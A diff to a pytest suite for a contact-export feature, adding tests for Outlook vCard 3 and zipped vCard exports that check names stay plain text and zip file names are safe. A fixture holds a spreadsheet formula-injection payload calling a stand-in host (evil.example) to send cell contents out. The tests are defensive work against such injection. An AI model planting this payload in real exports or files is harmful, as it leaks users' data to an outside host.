@@ -56,7 +56,7 @@ def csv_cells(content: bytes, delimiter: str) -> list[str]:
 
 
 def test_every_format_is_covered_here():
-    assert set(FORMATS) == {"csv", "csv-semicolon", "xlsx", "vcf"}
+    assert set(FORMATS) == {"csv", "csv-semicolon", "xlsx", "vcf", "vcf3", "vcf3-zip"}
 
 
 @pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("csv-semicolon", ";")])
@@ -87,6 +87,18 @@ def test_vcards_hold_the_names_as_plain_text(coordinator_client, group):
     assert not any("\u202e" in name or "\x0b" in name for name in names)
 
 
+def test_outlook_vcards_hold_the_names_as_plain_text_in_safe_file_names(coordinator_client, group):
+    single = [card.fn.value for card in vobject.readComponents(export(coordinator_client, group, "vcf3").decode())]
+    with zipfile.ZipFile(io.BytesIO(export(coordinator_client, group, "vcf3-zip"))) as archive:
+        files = archive.namelist()
+        zipped = [vobject.readOne(archive.read(name).decode("utf-8")).fn.value for name in files]
+    assert sorted(single) == sorted(zipped) and len(files) == len(PAYLOADS) + 1
+    assert '=HYPERLINK("http://evil.example/?"&A2,"Details")' in zipped and "AmalHaddad" in zipped
+    assert not any("\u202e" in name or "\x0b" in name for name in single)
+    # no path, no drive, no reserved character, no control: unpacking writes each file beside the others
+    assert all(re.fullmatch(r'[^\\/:*?"<>|\s\x00-\x1f]+\.vcf', name) and not name.startswith(".") for name in files)
+
+
 def test_the_print_view_escapes_and_isolates_names(coordinator_client, group):
     page = coordinator_client.get(f"/groups/{group.id}/contacts").get_data(as_text=True)
     assert "<bdi>=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A2,&#34;Details&#34;)</bdi>" in page
@@ -94,7 +106,7 @@ def test_the_print_view_escapes_and_isolates_names(coordinator_client, group):
 
 
 def table_of(names: list[str]) -> formats.Table:
-    contacts = [formats.Contact(name, name, "", name, name, name, name) for name in names]
+    contacts = [formats.Contact(name, name, "", name, False, name, name, name) for name in names]
     return formats.Table("=title", ["=a", "+b", "c", "d", "e", "f"], contacts, 0, "@note")
 
 
@@ -107,3 +119,6 @@ def test_no_text_whatever_becomes_a_live_cell(names):
     workbook = openpyxl.load_workbook(io.BytesIO(formats.as_xlsx(table)))
     assert all(cell.data_type != "f" for sheet in workbook for row in sheet.iter_rows() for cell in row)
     formats.as_vcards(table)  # no exception for any text
+    formats.as_vcards3(table)
+    with zipfile.ZipFile(io.BytesIO(formats.as_vcard3_zip(table))) as archive:
+        assert len(set(archive.namelist())) == len(names)
